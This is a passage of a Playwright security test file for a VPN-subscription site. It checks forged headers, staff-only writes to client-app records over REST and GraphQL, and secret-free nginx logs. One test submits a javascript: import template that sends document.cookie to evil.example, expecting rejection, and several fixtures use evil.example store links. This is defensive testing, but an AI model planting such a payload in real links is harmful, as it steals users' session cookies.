  // Not even where the site routes nothing itself (the API, the admin panel): the header never reaches Next.js.
  const api = await request.get('/api/feed/de', { headers: { ...forged, 'x-internal-route': '/index/ru/privacy', 'user-agent': 'v2rayNG/1.9.16' } })
  expect(api.status()).toBe(200)
  expect(api.headers()['content-type']).not.toContain('text/html')
  const signIn = await request.get('/profile/servers', { headers: forged, maxRedirects: 0 })
  expect(signIn.headers()['location'] ?? '').not.toContain('evil.example')
})

test('client apps are read by anyone and written by staff only, over REST and GraphQL; a link that would run script is refused', async ({ request }) => {
  const customer = await newCustomer(request)
  const listed = (await (await request.get('/api/client-apps?limit=1&depth=0')).json()) as { docs: { id: number; name: string }[] }
  const target = listed.docs[0]!
  const hostile = { name: 'Evil', platform: 'ios', protocols: ['vless'], storeUrl: 'https://evil.example/app', format: 'base64', importTemplate: 'happ://add/{url}' }
  for (const auth of [customer.auth, {}]) {
    expect((await request.post('/api/client-apps', { headers: auth, data: hostile })).status()).toBe(403)
    expect((await request.patch(`/api/client-apps/${target.id}`, { headers: auth, data: { storeUrl: 'https://evil.example/app' } })).status()).toBe(403)
    expect((await request.delete(`/api/client-apps/${target.id}`, { headers: auth })).status()).toBe(403)
    const mutation = await graphql(request, auth, `mutation { updateClientApp(id: ${target.id}, data: { storeUrl: "https://evil.example/app" }) { storeUrl } }`)
    // Payload's Forbidden, in the site's default language.
    expect(mutation.data?.updateClientApp ?? null).toBeNull()
    expect(mutation.errors?.[0]?.message).toBe('У вас нет права на выполнение этого действия.')
  }
  const after = (await (await request.get(`/api/client-apps/${target.id}?depth=0`)).json()) as { storeUrl: string }
  expect(after.storeUrl).not.toContain('evil.example')

  // Even an editor cannot put a javascript: link behind an "Add" button.
  const editorAuth = { Authorization: `JWT ${await tokenFor(request, DEMO_ACCOUNTS.find((account) => account.role === 'editor')!.email, DEMO_ACCOUNTS.find((account) => account.role === 'editor')!.password)}` }
  const refused = await request.post('/api/client-apps', { headers: { ...editorAuth, 'accept-language': 'ru' }, data: { ...hostile, importTemplate: 'javascript:fetch(`//evil.example?${document.cookie}`)//{url}' } })
  expect(refused.status()).toBe(400)
  expect(JSON.stringify(await refused.json())).toContain('importTemplate')
  // The same mutation is the editor's to make: the refusals above are about who asks, not about the request.
  const allowed = await graphql(request, editorAuth, `mutation { updateClientApp(id: ${target.id}, data: { storeUrl: "${after.storeUrl}" }) { storeUrl } }`)
  expect(allowed.errors).toBeUndefined()
  expect(allowed.data).toEqual({ updateClientApp: { storeUrl: after.storeUrl } })
})

test('nginx’s access log keeps no e-mailed link’s code, subscription URL or address, and carries the request id the site’s lines do', async ({ request, baseURL }) => {
  const email = `logged${Date.now()}@mail.example.com`
  expect((await request.post('/api/auth/request-link', { headers: from(), form: { email, purpose: 'register', locale: 'ru' }, maxRedirects: 0 })).status()).toBe(303)
  const link = new URL(linkFromMail(await latestMailTo(email)))
  const code = link.pathname.split('/').at(-1)!
  const opened = await request.get(`${link.pathname}?utm=${encodeURIComponent(email)}`, { headers: from() })
  expect(opened.status()).toBe(200)
  const token = `${code.slice(0, 21)}${code.slice(0, 22)}`
  const polled = await request.get(`/api/subscription/1/${token}`, { headers: { 'user-agent': 'Happ/3.4.1' } })
  expect(polled.status()).toBe(404)
  const ids = [opened, polled].map((answer) => answer.headers()['x-request-id']!)
  const log = path.join(siteDir(baseURL!), 'nginx', 'access.log')
  // nginx writes a few kilobytes at a time, at least every second.
  await expect.poll(() => readFileSync(log, 'utf8').includes(ids[1]!), { timeout: 5_000 }).toBe(true)
  const written = readFileSync(log, 'utf8')
  for (const secret of [code, token, email, encodeURIComponent(email)]) expect(written).not.toContain(secret)
  const lines = written.split('\n').filter(Boolean).map((line) => JSON.parse(line) as { reqId: string; path: string; status: number })
  expect(ids.map((id) => lines.find((line) => line.reqId === id))).toEqual([
    expect.objectContaining({ path: '/verify-email/…', status: 200 }),
    expect.objectContaining({ path: '/api/subscription/…', status: 404 }),
  ])
})
